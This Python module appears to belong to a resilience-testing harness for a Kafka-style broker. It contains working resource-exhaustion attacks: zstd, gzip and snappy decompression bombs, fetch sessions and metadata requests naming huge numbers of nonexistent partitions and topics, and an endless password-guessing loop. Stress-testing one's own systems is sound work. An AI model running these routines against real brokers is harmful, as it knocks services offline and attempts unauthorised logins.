"""Requests that cost their sender little and the broker much. Each attack is a generator that ends a round at every `yield`."""

import gzip
import itertools
import struct

import schema
from batch import CODECS, batch
from calls import FETCH_BY_NAME, PRODUCE_BY_NAME, fetch_body, produce_body
from connection import request_header
from logins import log_in

MIB = 1 << 20


def zstd_of_zeroes(size):
    """A zstd frame of blocks that each say "128 KiB of zeroes" in four bytes."""
    out = bytearray(struct.pack("<IBB", 0xFD2FB528, 0, 0x70))
    for at in range(0, size, 128 << 10):
        left = min(size - at, 128 << 10)
        last = at + left == size
        out += struct.pack("<I", left << 3 | 1 << 1 | last)[:3] + b"\0"
    return bytes(out)


def bombs(size):
    """name -> a batch that says it has one record, and whose compressed part is `size` bytes of zeroes: no record at all."""
    gzipped = gzip.compress(bytes(size), 1)
    return {
        "zstd": with_payload("zstd", zstd_of_zeroes(size)),
        "gzip": with_payload("gzip", gzipped),
        # The length that stands before a raw snappy block, and nothing behind it.
        "snappy": with_payload("snappy", b"\xff\xff\xff\xff\x0f"),
    }


def with_payload(codec, payload):
    return batch([b"v"], attributes=CODECS[codec], payload=payload)


def produce_bombs(connection, megabytes):
    """Bombs below and above what a batch may become."""
    bodies = [produce_body("nowhere", each) for each in bombs(megabytes * MIB).values()]
    encoded = [schema.encode("ProduceRequest", PRODUCE_BY_NAME, body) for body in bodies]
    for number in itertools.count(1):
        connection.send_frame(request_header("Produce", PRODUCE_BY_NAME, number) + encoded[number % len(encoded)])
        yield connection.receive_frame()


def fetch_everything(connection, partitions):
    """A session of very many partitions that do not exist: each of its answers names them all."""
    named = [("nowhere", number, 0) for number in range(partitions)]
    first = connection.call("Fetch", FETCH_BY_NAME, fetch_body(named, SessionId=0, SessionEpoch=0), timeout_s=60)
    session_id, body = first["SessionId"], fetch_body([])
    for epoch in itertools.count(1):
        body.update(SessionId=session_id, SessionEpoch=epoch)
        connection.send_frame(request_header("Fetch", FETCH_BY_NAME, epoch) + schema.encode("FetchRequest", FETCH_BY_NAME, body))
        yield connection.receive_frame(timeout_s=60)


def name_many_topics(connection, topics):
    """Metadata for very many topics that do not exist, a byte each."""
    body = {"Topics": [{"Name": "a"}] * topics, "AllowAutoTopicCreation": False}
    encoded = schema.encode("MetadataRequest", 9, body)
    for number in itertools.count(1):
        connection.send_frame(request_header("Metadata", 9, number) + encoded)
        yield connection.receive_frame(timeout_s=60)


def guess_passwords(_, mechanism, asking):
    """Logins of a user who exists, each by another connection."""
    for number in itertools.count(1):
        yield log_in(asking, mechanism, password=f"guess {number}")
